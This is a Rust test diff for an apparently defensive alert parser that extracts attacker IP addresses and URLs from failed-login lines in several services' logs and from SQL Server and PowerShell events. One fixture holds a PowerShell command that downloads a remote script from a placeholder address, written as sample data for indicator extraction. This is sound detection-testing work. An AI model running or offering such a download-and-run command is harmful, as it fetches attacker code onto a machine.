@@ -216,3 +216,100 @@ fn the_machine_of_a_sensor_is_no_end_of_a_connection() {
     assert!(alert(&detected("LocalIP")).actors().destinations.is_empty());
     assert_eq!(indicators_of(&detected("RemoteIP")), [("ip-src", "8.8.4.4".to_owned())]);
 }
+
+#[test]
+fn a_line_of_a_failed_log_on_with_one_foreign_address_tells_whose_it_was() {
+    let of = |line: &str, group: &str| json!({"rule": {"groups": ["syslog", group]}, "agent": {"id": "001", "name": "x", "ip": "8.8.4.4"}, "full_log": line});
+    let failed = "authentication_failed";
+    for (line, group) in [
+        (
+            "Access denied for user 'root'@'203.0.113.9' (using password: YES)",
+            "mysql_log",
+        ),
+        (
+            "[2026-11-29 14:59:00.000 CET] 203.0.113.9(40000) postgres@prod FATAL:  password authentication failed for user \"postgres\"",
+            "postgresql_log",
+        ),
+        (
+            "2017-01-23 03:44:14 dovecot_login authenticator failed for (hydra) [203.0.113.9]:35686: 535 Incorrect (set_id=user)",
+            "exim",
+        ),
+        ("fail2ban.actions [700]: NOTICE [sshd] Ban 203.0.113.9", "fail2ban"),
+        (
+            "date=2016-06-17 user=\"root\" ui=ssh(203.0.113.9) action=login status=failed",
+            failed,
+        ),
+        (
+            "asa01 : %ASA-6-113015: AAA user Rejected : reason = Invalid : server = 10.0.0.3 : user = x : user IP = 203.0.113.9",
+            failed,
+        ),
+        (
+            "hostd[2099] [Originator@6876] Event 77 : Cannot login root@203.0.113.9",
+            "vmware",
+        ),
+        (
+            "x: login of root at 8.8.4.4 by 203.0.113.9, 203.0.113.9 refused",
+            failed,
+        ),
+    ] {
+        let value = of(line, group);
+        expect(&value, &[("ip-any", "203.0.113.9")]);
+        let alert = alert(&value);
+        let sources = alert.actors().sources;
+        assert_eq!(
+            (sources.len(), sources[0].ip.as_deref()),
+            (1, Some("203.0.113.9")),
+            "{line}"
+        );
+    }
+    for (line, group) in [
+        // Which of two it was nothing says, and whose the machine's own is everybody knows.
+        ("login of root failed: 203.0.113.9 at 203.0.113.10", failed),
+        ("login of root at 8.8.4.4 failed", failed),
+        ("login of root failed: 10.0.0.9", failed),
+        ("client version 8.1.2.3: login failed", failed),
+        ("fail2ban.actions [700]: NOTICE [sshd] Unban 203.0.113.9", "fail2ban"),
+        // Lines of other kinds hold addresses and numbers of all kinds.
+        ("status installed libfoo:amd64 2.3.1.4", "dpkg"),
+        ("chronyd[1]: Selected source 162.159.200.1", "syslog"),
+        ("named[1]: resolver priming query complete 198.41.0.4", "named"),
+        (
+            "{\"msg\": \"authentication failed for x\", \"ip\": \"203.0.113.9\"}",
+            failed,
+        ),
+    ] {
+        let value = of(line, group);
+        expect(&value, &[]);
+        assert!(alert(&value).actors().sources.is_empty(), "{line}");
+    }
+    // What a field says comes first.
+    let mut named = of("login failed: 203.0.113.9", failed);
+    named["data"] = json!({"dstip": "10.0.0.5"});
+    expect(&named, &[]);
+}
+
+#[test]
+fn the_client_of_sql_server_and_what_powershell_ran_are_read_out_of_their_one_value() {
+    let event = |provider: &str, data: &str| json!({"data": {"win": {"system": {"providerName": provider, "eventID": "18456"}, "eventdata": {"data": data}}}});
+    let login = "x [CLIENT: 8.8.8.8], Reason: Password did not match.,  [CLIENT: 203.0.113.9]";
+    for provider in ["MSSQLSERVER", "MSSQL$PROD"] {
+        let value = event(provider, login);
+        expect(&value, &[("ip-src", "203.0.113.9")]);
+        assert_eq!(alert(&value).actors().sources[0].ip.as_deref(), Some("203.0.113.9"));
+    }
+    let ran = "NewEngineState=Available HostVersion=5.1.2.3 HostApplication=powershell -c iwr http://203.0.113.66/x.ps1 EngineVersion=5.1.2.4";
+    let value = event("PowerShell", ran);
+    expect(
+        &value,
+        &[("ip-dst", "203.0.113.66"), ("url", "http://203.0.113.66/x.ps1")],
+    );
+    assert_eq!(alert(&value).actors().urls, ["http://203.0.113.66/x.ps1"]);
+    for (provider, data) in [
+        ("MSSQLSERVER", "sa, Reason: x, [CLIENT: <local machine>]"),
+        ("MSSQLSERVER", "8.8.8.8 http://8.8.8.8/"),
+        ("Other", login),
+        ("Other", ran),
+    ] {
+        expect(&event(provider, data), &[]);
+    }
+}
